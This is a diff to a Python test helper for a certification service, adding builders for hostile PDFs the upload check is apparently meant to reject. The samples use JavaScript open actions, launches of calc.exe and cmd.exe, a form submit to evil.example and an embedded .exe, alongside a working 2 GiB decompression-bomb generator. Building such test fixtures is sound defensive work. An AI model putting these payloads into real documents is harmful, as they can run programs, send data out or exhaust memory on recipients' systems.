@@ -8,7 +8,9 @@ from __future__ import annotations
 
 import io
 import itertools
+import struct
 import uuid
+import zlib
 from collections.abc import Iterator
 from datetime import date, timedelta
 from pathlib import Path
@@ -17,6 +19,16 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 from pypdf import PdfWriter
+from pypdf.actions import JavaScript
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    PdfObject,
+    StreamObject,
+    TextStringObject,
+)
 from sqlalchemy import Engine
 
 from services.certification.app import create_app
@@ -59,13 +71,124 @@ def number_for(scheme: str) -> str:
 
 
 def pdf_bytes(title: str = "certificate", pages: int = 1) -> bytes:
+    return _written(_blank(title, pages))
+
+
+def _blank(title: str = "certificate", pages: int = 1) -> PdfWriter:
     writer = PdfWriter()
     for _ in range(pages):
         writer.add_blank_page(width=595, height=842)
     writer.add_metadata({"/Title": title})
+    return writer
+
+
+def _written(writer: PdfWriter) -> bytes:
     out = io.BytesIO()
     writer.write(out)
     return out.getvalue()
+
+
+def _name(value: str) -> NameObject:
+    return NameObject(value)
+
+
+def _action(kind: str, **entries: str) -> DictionaryObject:
+    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
+    action.update({_name(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
+    return action
+
+
+def _with_link(action: DictionaryObject) -> bytes:
+    writer = _blank()
+    rect = ArrayObject([NumberObject(n) for n in (50, 50, 200, 80)])
+    link = DictionaryObject(
+        {_name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"), _name("/Rect"): rect, _name("/A"): action}
+    )
+    writer.add_annotation(0, link)
+    return _written(writer)
+
+
+def _with_catalog_entry(key: str, value: PdfObject) -> bytes:
+    writer = _blank()
+    writer._root_object[_name(key)] = value
+    return _written(writer)
+
+
+def _with_page_entry(key: str, value: PdfObject) -> bytes:
+    writer = _blank()
+    writer.pages[0][_name(key)] = value
+    return _written(writer)
+
+
+def _with_javascript_name_tree() -> bytes:
+    writer = _blank()
+    writer.add_open_action(JavaScript("app.alert('certificate')"))
+    return _written(writer)
+
+
+def _with_attachment() -> bytes:
+    writer = _blank()
+    writer.add_attachment("invoice.exe", b"MZ not really a program")
+    return _written(writer)
+
+
+def unsafe_pdfs() -> dict[str, tuple[bytes, str]]:
+    """PDFs that would run or open something by themselves, each with what the refusal names."""
+    return {
+        "javascript name tree": (_with_javascript_name_tree(), "JavaScript"),
+        "javascript on opening": (
+            _with_catalog_entry("/OpenAction", _action("/JavaScript", JS="app.alert(1)")),
+            "/OpenAction",
+        ),
+        "launch on opening": (_with_catalog_entry("/OpenAction", _action("/Launch", F="calc.exe")), "/OpenAction"),
+        "page additional actions": (
+            _with_page_entry("/AA", DictionaryObject({_name("/O"): _action("/URI", URI="https://evil.example")})),
+            "additional actions",
+        ),
+        "link that launches": (_with_link(_action("/Launch", F="cmd.exe")), "Launch"),
+        "link that submits a form": (_with_link(_action("/SubmitForm", F="https://evil.example")), "SubmitForm"),
+        "embedded file": (_with_attachment(), "embedded files"),
+    }
+
+
+def pdf_with_harmless_navigation() -> bytes:
+    """Opens at the first page fitted to the window, with a link to a web address: what many
+    certificates have, and nothing runs."""
+    writer = _blank()
+    writer._root_object[_name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
+    rect = ArrayObject([NumberObject(n) for n in (50, 50, 200, 80)])
+    link = DictionaryObject(
+        {
+            _name("/Type"): _name("/Annot"),
+            _name("/Subtype"): _name("/Link"),
+            _name("/Rect"): rect,
+            _name("/A"): _action("/URI", URI="https://www.cqc.com.cn/verify"),
+        }
+    )
+    writer.add_annotation(0, link)
+    return _written(writer)
+
+
+def flate_bomb_pdf(inflated_bytes: int = 2 * 1024**3) -> bytes:
+    """A PDF of about 2 MB whose page content is a valid Flate stream of `inflated_bytes` zeros.
+
+    Built without ever holding the zeros: after a full flush, deflate writes every further
+    mebibyte of zeros as the same bytes, so one block is repeated; the zlib trailer's Adler-32
+    of n zeros is (n mod 65521) << 16 | 1.
+    """
+    step = 1024 * 1024
+    zeros = bytes(step)
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    first = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
+    repeated = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
+    adler32 = (inflated_bytes % 65521) << 16 | 1
+    body = first + repeated * (inflated_bytes // step - 1) + deflate.flush()
+    stream = StreamObject()
+    stream._data = b"\x78\xda" + body + struct.pack(">I", adler32)
+    stream[_name("/Filter")] = _name("/FlateDecode")
+    writer = _blank()
+    writer.pages[0][_name("/Contents")] = writer._add_object(stream)
+    return _written(writer)
 
 
 @pytest.fixture
